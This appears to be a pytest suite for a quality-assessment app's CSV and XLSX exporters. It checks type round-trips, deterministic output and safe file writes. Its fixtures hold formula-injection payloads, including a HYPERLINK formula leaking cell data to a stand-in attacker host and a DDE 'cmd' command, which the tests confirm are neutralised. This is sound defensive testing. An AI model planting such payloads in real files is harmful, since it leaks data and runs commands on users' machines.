"""Exports: each table round-trips through CSV and XLSX with its types, formula-like text is
neutralised, numbers never are, the same data gives the same bytes, and a file is written whole."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy.orm import Session

from factories import (
    create_alice,
    create_assessment_of,
    create_bob,
    create_evidence,
    create_site_a,
    create_tiny_framework,
    tiny_pdf,
)
from qmm.assessment.service import get_question, record_consensus, record_rating
from qmm.errors import InvalidInput, NotFound
from qmm.events.importer import import_files
from qmm.events.store import EventStore
from qmm.evidence.service import retire_evidence
from qmm.metrics.catalogue import get_kpi
from qmm.models import Assessment, Site, User
from qmm.reports.exports import (
    Cell,
    Column,
    ExportTable,
    check_format,
    check_kpis,
    check_period,
    evidence_table,
    kpi_table,
    ratings_table,
    render,
    to_csv,
    to_xlsx,
    write_file,
    xlsx_text,
)
from qmm.spreadsheet_text import FORMULA_TRIGGERS, neutralise
from web.support import CAPA_COLUMNS, capa_rows, csv_bytes

HYPERLINK = '=HYPERLINK("https://evil.example.invalid/?leak="&A1,"Open")'
AS_OF = date(2026, 6, 30)


# --- reading files back ----------------------------------------------------------------------


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def parse_csv_cell(column: Column, text: str) -> Cell:
    """A CSV cell as the type its column promises (the reader's side of the contract)."""
    if text == "":
        return None
    if column.kind == "integer":
        return int(text)
    if column.kind == "number":
        return float(text)
    if column.kind == "date":
        return date.fromisoformat(text)
    if column.kind == "datetime":
        assert text.endswith("Z"), text
        return datetime.fromisoformat(text[:-1]).replace(tzinfo=UTC)
    if column.kind == "boolean":
        assert text in {"yes", "no"}, text
        return text == "yes"
    return text


def csv_expected(value: Cell) -> Cell:
    return neutralise(value) if isinstance(value, str) else value


def xlsx_sheet(content: bytes) -> Any:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert len(workbook.worksheets) == 1
    return workbook.active


def sheet_time(*parts: int) -> datetime:
    """A spreadsheet's timestamp: UTC, without a zone."""
    return datetime(*parts, tzinfo=UTC).replace(tzinfo=None)


def xlsx_expected(column: Column, value: Cell) -> Cell:
    """What openpyxl reads back: dates as midnight datetimes, timestamps as naive UTC."""
    if isinstance(value, str):
        return xlsx_text(value)
    if isinstance(value, datetime):
        return value.astimezone(UTC).replace(tzinfo=None)
    if isinstance(value, date):
        return sheet_time(value.year, value.month, value.day)
    return value


# --- data ------------------------------------------------------------------------------------


@pytest.fixture
def site_a(session: Session) -> Site:
    return create_site_a(session)


@pytest.fixture
def alice(session: Session) -> User:
    return create_alice(session)


@pytest.fixture
def bob(session: Session) -> User:
    return create_bob(session)


@pytest.fixture
def assessment(session: Session, site_a: Site, alice: User, bob: User) -> Assessment:
    """Ratings whose rationales a spreadsheet would run, a superseded one, and consensus."""
    assessment = create_assessment_of(
        session, site_a, alice, bob, framework=create_tiny_framework(session)
    )

    def rate(code: str, who: User, score: int | None, rationale: str, *refs: str) -> None:
        question = get_question(session, assessment=assessment, code=code)
        record_rating(
            session,
            assessment=assessment,
            question=question,
            assessor=who,
            score=score,
            rationale=rationale,
            evidence_refs=refs,
        )

    rate("m1.q1", bob, 3, HYPERLINK, "EV-0001", "=cmd|' /C calc'!A0")
    rate("m1.q1", alice, None, "@SUM(1)")
    rate("m1.q2", bob, 2, "First look")
    rate("m1.q2", bob, 4, "-2+3")
    rate("b1.q1", alice, 5, "+1")

    def agree(code: str, score: float | None, rationale: str) -> None:
        question = get_question(session, assessment=assessment, code=code)
        record_consensus(
            session,
            assessment=assessment,
            question=question,
            lead=alice,
            score=score,
            rationale=rationale,
        )

    agree("m1.q1", 3.5, "Agreed at calibration")
    agree("m2.q1", None, "Not applicable at a sterile site")
    return assessment


@pytest.fixture
def ratings(session: Session, assessment: Assessment) -> ExportTable:
    return ratings_table(session, assessment=assessment)


@pytest.fixture
def evidence(session: Session, site_a: Site) -> ExportTable:
    """A current item with a file, one overdue for review, one retired; titles to neutralise."""
    create_evidence(
        session,
        site_a,
        title="=1+1 Deviation SOP",
        review_by=date(2027, 3, 1),
        files=[("deviation-sop.pdf", tiny_pdf())],
        sub_elements=("deviations_investigations", "capa_effectiveness"),
    )
    create_evidence(session, site_a, title="@Training matrix", review_by=date(2026, 4, 1))
    retired = create_evidence(session, site_a, title="Old CAPA SOP", review_by=date(2026, 5, 1))
    retire_evidence(session, item=retired, reason="superseded")
    return evidence_table(session, site=site_a, as_of=AS_OF)


@pytest.fixture
def store(session: Session, tmp_path: Path) -> EventStore:
    """A year of CAPA verifications at SITE-A with a bad June (a Nelson rule 1 signal)."""
    store = EventStore(tmp_path / "events")
    path = tmp_path / "capa.csv"
    path.write_bytes(csv_bytes(CAPA_COLUMNS, capa_rows(low_month=6)))
    import_files(session, paths=[path], store=store)
    return store


@pytest.fixture
def kpis(session: Session, site_a: Site, store: EventStore) -> ExportTable:
    return kpi_table(session, site=site_a, as_of=AS_OF, kpis=["capa_effectiveness"], store=store)


def typed_table() -> ExportTable:
    """Every kind of cell, including negative numbers and text a spreadsheet would run."""
    columns = (
        Column("text", "text"),
        Column("integer", "integer"),
        Column("number", "number"),
        Column("date", "date"),
        Column("datetime", "datetime"),
        Column("boolean", "boolean"),
    )
    rows: list[tuple[Cell, ...]] = [
        (trigger + "1+2", -3, -0.5, date(2026, 3, 1), datetime(2026, 3, 1, 9, 5, tzinfo=UTC), True)
        for trigger in FORMULA_TRIGGERS
    ]
    rows.append(("plain", 0, 1e-05, None, None, False))
    rows.append((None, None, None, None, None, None))
    return ExportTable(
        sheet="Typed",
        columns=columns,
        rows=tuple(rows),
        stamp=datetime(2026, 3, 1, 12, 0, tzinfo=UTC),
        file_stem="typed",
    )


# --- the tables ------------------------------------------------------------------------------


class TestRatingsTable:
    def test_it_lists_current_ratings_in_framework_order_with_the_consensus(
        self, ratings: ExportTable
    ) -> None:
        names = [c.name for c in ratings.columns]
        got = [dict(zip(names, row, strict=True)) for row in ratings.rows]
        assert [(r["question"], r["assessor"], r["score"], r["not_applicable"]) for r in got] == [
            ("m1.q1", "alice", None, True),
            ("m1.q1", "bob", 3, False),
            ("m1.q2", "bob", 4, False),
            ("m2.q1", None, None, None),
            ("b1.q1", "alice", 5, False),
        ]
        assert [(r["consensus_score"], r["consensus_not_applicable"]) for r in got] == [
            (3.5, False),
            (3.5, False),
            (None, None),
            (None, True),
            (None, None),
        ]
        first = got[1]
        assert (first["site"], first["framework"], first["practice_area"]) == (
            "SITE-A",
            "tiny@1",
            "management_commitment",
        )
        assert first["sub_element"] == "m1"
        assert first["rationale"] == HYPERLINK
        assert first["evidence_refs"] == "EV-0001; =cmd|' /C calc'!A0"
        assert isinstance(first["rated_at"], datetime)
        assert first["rated_at"].microsecond == 0

    def test_a_superseded_rating_is_left_out(self, ratings: ExportTable) -> None:
        rationales = [row[10] for row in ratings.rows]
        assert "First look" not in rationales
        assert "-2+3" in rationales

    def test_the_stamp_is_the_latest_recorded_moment(
        self, ratings: ExportTable, assessment: Assessment
    ) -> None:
        stamped = [row[12] for row in ratings.rows if row[12] is not None]
        assert isinstance(ratings.stamp, datetime)
        assert ratings.stamp.replace(microsecond=0) >= max(stamped)
        assert ratings.file_stem == f"SITE-A-assessment-{assessment.id}-ratings"


class TestEvidenceTable:
    def test_it_lists_every_item_with_status_overdue_sub_elements_and_files(
        self, evidence: ExportTable
    ) -> None:
        names = [c.name for c in evidence.columns]
        got = [dict(zip(names, row, strict=True)) for row in evidence.rows]
        assert [(r["ref"], r["status"], r["overdue"]) for r in got] == [
            ("EV-0001", "current", False),
            ("EV-0002", "current", True),
            ("EV-0003", "retired", False),
        ]
        first = got[0]
        assert first["title"] == "=1+1 Deviation SOP"
        assert first["effective_on"] == date(2026, 3, 1)
        assert first["review_by"] == date(2027, 3, 1)
        assert first["sub_elements"] == "capa_effectiveness; deviations_investigations"
        assert first["eqms_id"] == "SOP-QA-031"
        assert first["link"] == "https://eqms.example.invalid/documents/SOP-QA-031"
        assert isinstance(first["files"], str)
        assert first["files"].startswith("deviation-sop.pdf (sha256 ")
        assert len(first["files"]) == len("deviation-sop.pdf (sha256 )") + 64
        assert got[1]["files"] is None
        assert evidence.stamp == datetime(2026, 6, 30, tzinfo=UTC)
        assert evidence.file_stem == "SITE-A-evidence-2026-06-30"


class TestKpiTable:
    def test_each_period_has_its_n_target_limits_and_signal(self, kpis: ExportTable) -> None:
        names = [c.name for c in kpis.columns]
        got = [dict(zip(names, row, strict=True)) for row in kpis.rows]
        assert [r["period"] for r in got] == [f"2025-{m:02d}" for m in range(1, 13)]
        june = got[5]
        assert (june["numerator"], june["denominator"], june["n"]) == (6, 30, 30)
        assert june["value"] == pytest.approx(0.2)
        assert june["signal_rules"] is not None
        assert "rule 1" in june["signal_rules"]
        definition = get_kpi("capa_effectiveness")
        for row in got:
            assert (row["site"], row["kpi"], row["kpi_name"]) == (
                "SITE-A",
                "capa_effectiveness",
                definition.name,
            )
            assert (row["unit"], row["target"], row["chart"]) == (
                "ratio",
                definition.default_target,
                "p",
            )
            assert all(isinstance(row[k], float) for k in ("centre", "lower_limit", "upper_limit"))
            assert row["lower_limit"] <= row["centre"] <= row["upper_limit"]
        assert got[0]["signal_rules"] is None
        assert kpis.file_stem == "SITE-A-kpis-month-2026-06-30"

    def test_every_kpi_is_exported_unless_some_are_named(
        self, session: Session, site_a: Site, store: EventStore
    ) -> None:
        table = kpi_table(session, site=site_a, as_of=AS_OF, period="quarter", store=store)
        assert len({row[1] for row in table.rows}) > 1
        assert {row[4] for row in table.rows if row[1] == "capa_effectiveness"} == {
            f"2025-Q{q}" for q in range(1, 5)
        }

    def test_without_records_there_are_no_rows(
        self, session: Session, site_a: Site, tmp_path: Path
    ) -> None:
        table = kpi_table(session, site=site_a, as_of=AS_OF, store=EventStore(tmp_path / "none"))
        assert table.rows == ()
        assert csv_rows(to_csv(table)) == [[c.name for c in table.columns]]

    def test_an_unknown_kpi_or_period_is_refused_by_name(
        self, session: Session, site_a: Site, store: EventStore
    ) -> None:
        with pytest.raises(NotFound, match="unknown KPI 'capa_speed'; known: "):
            kpi_table(session, site=site_a, as_of=AS_OF, kpis=["capa_speed"], store=store)
        with pytest.raises(InvalidInput, match="period 'week' is not one of month, quarter"):
            kpi_table(session, site=site_a, as_of=AS_OF, period="week", store=store)


# --- round trips -----------------------------------------------------------------------------

TABLES = ["ratings", "evidence", "kpis"]


@pytest.mark.parametrize("name", TABLES)
def test_csv_round_trips_with_types_and_neutralised_text(
    request: pytest.FixtureRequest, name: str
) -> None:
    table: ExportTable = request.getfixturevalue(name)
    assert table.rows, "the fixture must give rows to compare"
    header, *rows = csv_rows(to_csv(table))
    assert header == [c.name for c in table.columns]
    parsed = [
        tuple(parse_csv_cell(c, text) for c, text in zip(table.columns, row, strict=True))
        for row in rows
    ]
    expected = [tuple(csv_expected(v) for v in row) for row in table.rows]
    assert parsed == expected


@pytest.mark.parametrize("name", TABLES)
def test_xlsx_round_trips_with_types_and_no_formula(
    request: pytest.FixtureRequest, name: str
) -> None:
    table: ExportTable = request.getfixturevalue(name)
    sheet = xlsx_sheet(to_xlsx(table))
    header, *rows = list(sheet.iter_rows())
    assert [c.value for c in header] == [c.name for c in table.columns]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    got = [tuple(cell.value for cell in row) for row in rows]
    expected = [
        tuple(xlsx_expected(c, v) for c, v in zip(table.columns, row, strict=True))
        for row in table.rows
    ]
    assert got == expected
    for row in rows:
        for column, cell in zip(table.columns, row, strict=True):
            if cell.value is None:
                continue
            kind = {"integer": int, "number": (int, float), "text": str, "boolean": bool}
            if column.kind in kind:
                assert isinstance(cell.value, kind[column.kind]), (column.name, cell.value)
            assert column.kind != "integer" or not isinstance(cell.value, bool)


def test_user_text_that_would_run_is_neutralised_in_csv(ratings: ExportTable) -> None:
    text = to_csv(ratings).decode()
    for rationale in ("'@SUM(1)", "'-2+3", "'+1"):
        assert f",{rationale}," in text
    assert "\"'=HYPERLINK(" in text
    assert "EV-0001; =cmd" in text  # the cell opens with EV-0001: nothing to neutralise


def test_user_text_that_would_run_is_a_quoted_string_cell_in_xlsx(ratings: ExportTable) -> None:
    sheet = xlsx_sheet(to_xlsx(ratings))
    by_value = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for rationale in (HYPERLINK, "@SUM(1)", "-2+3", "+1"):
        cell = by_value[rationale]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), rationale
    assert by_value["alice"].quotePrefix is False


# --- the writers -----------------------------------------------------------------------------


class TestNeutralise:
    @pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
    def test_it_marks_each_formula_trigger_as_text(self, trigger: str) -> None:
        assert neutralise(trigger + "SUM(A1:A9)") == "'" + trigger + "SUM(A1:A9)"

    @pytest.mark.parametrize("text", ["Alice", "", "1+1", " =1", "'quoted", "SOP = rev 4"])
    def test_it_leaves_other_text_alone(self, text: str) -> None:
        assert neutralise(text) == text


class TestCsv:
    def test_each_trigger_is_prefixed_and_numbers_are_bare(self) -> None:
        table = typed_table()
        _, *rows = csv_rows(to_csv(table))
        for trigger, row in zip(FORMULA_TRIGGERS, rows, strict=False):
            assert row == [
                "'" + trigger + "1+2",
                "-3",
                "-0.5",
                "2026-03-01",
                "2026-03-01T09:05:00Z",
                "yes",
            ]
        assert rows[-2] == ["plain", "0", "1e-05", "", "", "no"]
        assert rows[-1] == [""] * 6

    def test_it_is_rfc_4180_utf8_with_crlf(self) -> None:
        table = ExportTable(
            sheet="T",
            columns=(Column("text", "text"),),
            rows=(('Zoë said "hold", twice\nthen left',),),
            stamp=datetime(2026, 1, 1, tzinfo=UTC),
            file_stem="t",
        )
        assert to_csv(table) == 'text\r\n"Zoë said ""hold"", twice\nthen left"\r\n'.encode()

    def test_the_same_table_gives_the_same_bytes(self, ratings: ExportTable) -> None:
        assert to_csv(ratings) == to_csv(ratings)


class TestXlsx:
    def test_each_trigger_is_text_and_numbers_stay_numbers(self) -> None:
        sheet = xlsx_sheet(to_xlsx(typed_table()))
        rows = list(sheet.iter_rows(min_row=2))
        for trigger, row in zip(FORMULA_TRIGGERS, rows, strict=False):
            text, integer, number, day, moment, flag = row
            shown = trigger.replace("\r", "\n") + "1+2"  # XML stores line breaks as LF
            assert (text.value, text.data_type, text.quotePrefix) == (shown, "s", True)
            assert (integer.value, integer.data_type) == (-3, "n")
            assert (number.value, number.data_type) == (-0.5, "n")
            assert (day.value, day.number_format) == (sheet_time(2026, 3, 1), "yyyy-mm-dd")
            assert (moment.value, moment.number_format) == (
                sheet_time(2026, 3, 1, 9, 5),
                "yyyy-mm-dd hh:mm:ss",
            )
            assert (flag.value, flag.data_type) == (True, "b")
        assert rows[-2][0].quotePrefix is False
        assert [c.value for c in rows[-1]] == [None] * 6

    def test_no_sheet_holds_a_formula_element(self) -> None:
        with zipfile.ZipFile(io.BytesIO(to_xlsx(typed_table()))) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets
            for name in sheets:
                assert b"<f>" not in archive.read(name)
                assert b"<f " not in archive.read(name)

    def test_the_sheet_is_named_with_a_bold_frozen_header_and_sized_columns(
        self, evidence: ExportTable
    ) -> None:
        sheet = xlsx_sheet(to_xlsx(evidence))
        assert sheet.title == "Evidence index"
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert not any(cell.font.bold for cell in sheet[2])
        widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]]
        assert all(8 <= w <= 60 for w in widths), widths
        files = sheet.column_dimensions["M"].width
        assert files == 60  # sha256 names are long: capped, not as wide as the text

    def test_control_characters_xlsx_cannot_hold_become_replacement_characters(self) -> None:
        table = ExportTable(
            sheet="T",
            columns=(Column("text", "text"),),
            rows=(("bell\x07, tab\tand\r\nlines\rkept",),),
            stamp=datetime(2026, 1, 1, tzinfo=UTC),
            file_stem="t",
        )
        sheet = xlsx_sheet(to_xlsx(table))
        assert sheet["A2"].value == "bell\ufffd, tab\tand\nlines\nkept"

    def test_the_same_table_gives_the_same_bytes_dated_at_its_stamp(
        self, ratings: ExportTable
    ) -> None:
        first, second = to_xlsx(ratings), to_xlsx(ratings)
        assert first == second
        stamp = ratings.stamp.astimezone(UTC).replace(tzinfo=None, microsecond=0)
        with zipfile.ZipFile(io.BytesIO(first)) as archive:
            moment = (stamp.year, stamp.month, stamp.day, stamp.hour, stamp.minute)
            assert {info.date_time[:5] for info in archive.infolist()} == {moment}
        workbook = openpyxl.load_workbook(io.BytesIO(first))
        assert workbook.properties.created == stamp
        assert workbook.properties.modified == stamp


class TestFormatAndInput:
    def test_render_writes_the_named_format(self, ratings: ExportTable) -> None:
        assert render(ratings, "CSV") == to_csv(ratings)
        assert render(ratings, "xlsx")[:2] == b"PK"

    @pytest.mark.parametrize("fmt", ["pdf", "", "xls"])
    def test_another_format_is_refused_naming_the_choices(self, fmt: str) -> None:
        with pytest.raises(InvalidInput, match="is not one of csv, xlsx"):
            check_format(fmt)

    def test_kpis_are_checked_and_kept_once_each(self) -> None:
        assert check_kpis(["capa_effectiveness", "capa_effectiveness"]) == ["capa_effectiveness"]
        with pytest.raises(NotFound, match="unknown KPI"):
            check_kpis(["nope"])
        assert check_period("year") == "year"


class TestWriteFile:
    def test_it_replaces_an_existing_file_whole_and_leaves_nothing_else(
        self, tmp_path: Path
    ) -> None:
        target = tmp_path / "out.csv"
        target.write_bytes(b"old")
        write_file(target, b"new content")
        assert target.read_bytes() == b"new content"
        assert os.listdir(tmp_path) == ["out.csv"]

    def test_a_missing_folder_is_refused_in_words(self, tmp_path: Path) -> None:
        target = tmp_path / "no-such-folder" / "out.csv"
        with pytest.raises(InvalidInput, match=f"cannot write {target}"):
            write_file(target, b"x")
        assert not target.parent.exists()

    def test_a_folder_is_no_file(self, tmp_path: Path) -> None:
        with pytest.raises(InvalidInput, match="is a folder; name the file"):
            write_file(tmp_path, b"x")

    def test_a_failed_write_keeps_the_old_file_and_no_partial_one(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        target = tmp_path / "out.xlsx"
        target.write_bytes(b"the previous export")

        def full_disk(source: str, destination: str) -> None:
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "replace", full_disk)
        with pytest.raises(InvalidInput, match="No space left on device"):
            write_file(target, b"half")
        assert target.read_bytes() == b"the previous export"
        assert os.listdir(tmp_path) == ["out.xlsx"]

    def test_a_new_file_gets_the_usual_permissions(self, tmp_path: Path) -> None:
        target = tmp_path / "new.csv"
        write_file(target, b"x")
        umask = os.umask(0)
        os.umask(umask)
        assert target.stat().st_mode & 0o777 == 0o666 & ~umask
